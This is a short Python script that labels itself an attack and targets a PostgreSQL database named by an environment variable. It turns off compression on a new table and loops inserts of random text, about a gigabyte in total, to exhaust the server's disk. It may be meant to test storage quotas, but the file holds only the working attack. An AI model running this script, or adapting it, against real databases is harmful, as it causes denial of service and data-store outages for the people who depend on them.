import os

import psycopg2


def run(*statements):
    try:
        connection = psycopg2.connect(os.environ["DATABASE_URL"])
    except psycopg2.Error as error:
        print(error)
        return
    connection.autocommit = True
    cursor = connection.cursor()
    for statement in statements:
        try:
            cursor.execute(statement)
        except psycopg2.Error as error:
            print("refused:", str(error).split("\n")[0])
    connection.close()
    print("attack ran")


run(
    "CREATE TABLE IF NOT EXISTS hoard (a text)",
    "ALTER TABLE hoard ALTER a SET STORAGE EXTERNAL",
    "DO $$ BEGIN FOR n IN 1..100 LOOP INSERT INTO hoard SELECT repeat(md5(random()::text), 31250) FROM generate_series(1, 10); COMMIT; END LOOP; END $$",
)
